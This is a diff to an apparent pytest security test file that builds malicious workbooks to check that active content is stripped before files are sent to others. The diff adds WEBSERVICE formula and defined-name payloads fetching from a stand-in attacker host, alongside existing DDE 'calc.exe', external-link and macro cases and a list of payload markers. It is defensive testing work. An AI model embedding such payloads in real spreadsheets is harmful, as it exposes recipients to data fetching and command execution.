@@ -1,6 +1,7 @@
 """A malicious author of workbooks wants their file to reach others with our name on it, and to do there what it does.
 
-It fetches values from a server when it is opened, starts a program by DDE, or carries an object. It is sent with the token, so that it is
+It fetches values from a server when it is opened, by a link or a formula that lies where formulas lie, or elsewhere; it starts a
+program by DDE, or carries an object. It is sent with the token, so that it is
 read, and with a mistake, so that it is sent back: to its sender and to the contact.
 """
 
@@ -10,10 +11,11 @@ from collections.abc import Callable
 
 import pytest
 
-from tests.attacks.books import with_dde, with_external_link, with_macros, with_part
+from tests.attacks.books import with_dde, with_external_link, with_formula, with_macros, with_name, with_part
 from tests.attacks.scene import Scene, person
 
 ELSEWHERE = "http://evil.example/fetch.xlsx"
+FETCHES = f'WEBSERVICE("{ELSEWHERE}")'
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
@@ -26,6 +28,9 @@ ACTIVE: dict[str, Callable[[bytes], bytes]] = {
     "link": lambda book: with_external_link(book, ELSEWHERE),
     "dde": lambda book: with_dde(book, "/c calc.exe"),
     "object": embedded,
+    "formula": lambda book: with_formula(book, FETCHES),
+    "formula in another folder": lambda book: with_formula(book, FETCHES, "pages"),
+    "name": lambda book: with_name(book, FETCHES),
     "macro": lambda book: with_macros(book, b"MZ evil program"),
 }
 ALIVE = (b"ddeLink", b"/c calc.exe", ELSEWHERE.encode(), b"MZ evil program", b"vbaProject")
